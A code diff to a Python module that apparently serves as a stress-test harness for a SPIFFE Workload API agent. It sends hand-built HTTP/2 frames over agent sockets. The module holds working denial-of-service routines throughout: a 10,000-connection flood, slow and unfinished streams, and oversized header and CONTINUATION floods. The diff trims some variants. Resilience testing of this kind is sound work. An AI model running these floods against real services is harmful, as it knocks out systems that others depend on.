@@ -21,7 +21,6 @@ from typing import Final
 
 DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
 END_STREAM, END_HEADERS = 1, 4
-ACK = 1
 LARGEST: Final = 2**31 - 1
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 FETCH, TOKEN = b"/SpiffeWorkloadAPI/FetchX509SVID", b"/SpiffeWorkloadAPI/FetchJWTSVID"
@@ -80,19 +79,10 @@ def connect(path: str) -> socket.socket:
 
 
 def speaking(path: str) -> socket.socket:
-    """A connection that speaks HTTP/2, acknowledges the agent's settings unseen, and lets the agent send as much as it
-    likes. Raises OSError."""
+    """A connection that speaks HTTP/2 and lets the agent send as much as it likes. Raises OSError."""
     found = connect(path)
     window = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, LARGEST))
-    found.sendall(PREFACE + window + frame(SETTINGS, ACK, 0))
-    found.sendall(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", LARGEST - 65_535)))
-    return found
-
-
-def silent(path: str) -> socket.socket:
-    """A connection that speaks HTTP/2 and acknowledges nothing. Raises OSError."""
-    found = connect(path)
-    found.sendall(PREFACE + frame(SETTINGS, 0, 0))
+    found.sendall(PREFACE + window + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", LARGEST - 65_535)))
     return found
 
 
@@ -124,15 +114,15 @@ def said_and_waited(first: Callable[[], bytes]) -> Attack:
 
 
 def flood(paths: Sequence[str], going_on: Callable[[], bool]) -> int:
-    """10,000 connections of all attackers, held, half of which acknowledge the settings; those that are closed are made
-    again."""
+    """10,000 connections of all attackers, held; those that are closed are made again."""
     held: list[socket.socket] = []
     done = 0
     for path in itertools.cycle(paths):
         if not going_on():
             break
         with suppress(OSError):
-            held.append(acknowledging(path) if done % 2 else silent(path))
+            held.append(connect(path))
+            held[-1].sendall(PREFACE + frame(SETTINGS, 0, 0))
             done += 1
         if len(held) >= CONNECTIONS // ATTACKERS:
             held = [each for each in held if _is_open(each)]
@@ -173,9 +163,7 @@ def slow(paths: Sequence[str], going_on: Callable[[], bool]) -> int:
     return done
 
 
-def calls_of(
-    requests: Callable[[int], bytes], at_once: int, begin: Callable[[str], socket.socket] = speaking
-) -> Attack:
+def calls_of(requests: Callable[[int], bytes], at_once: int) -> Attack:
     """Connections to each path that send `requests(stream)`, `at_once` at a time, as fast as the agent reads them."""
 
     def attack(paths: Sequence[str], going_on: Callable[[], bool]) -> int:
@@ -185,7 +173,7 @@ def calls_of(
             if not going_on():
                 break
             try:
-                connection, streams = held.pop(path) if path in held else (begin(path), itertools.count(1, 2))
+                connection, streams = held.pop(path) if path in held else (speaking(path), itertools.count(1, 2))
                 connection.sendall(b"".join(requests(next(streams)) for _ in range(at_once)))
                 done += at_once
                 drain(connection)
@@ -245,7 +233,7 @@ def large_headers(most: int) -> Attack:
             for place in itertools.product(paths, range(HOLDERS)):
                 try:
                     if place not in held:
-                        begin = acknowledging if place[1] % 2 else silent
+                        begin = acknowledging if place[1] % 2 else speaking
                         held[place] = begin(place[0]), 0
                         held[place][0].setblocking(False)
                         done += 1
@@ -406,7 +394,6 @@ KINDS: Mapping[str, Attack] = MappingProxyType(
         "begun": calls_of(_unfinished, 50),
         "tokens": calls_of(_token, 20),
         "metadata": calls_of(_much_metadata, 2),
-        "early metadata": calls_of(_much_metadata, 2, silent),
         "headers": large_headers(16_000),
         "continuations": large_headers(64),
         "requests": asking,
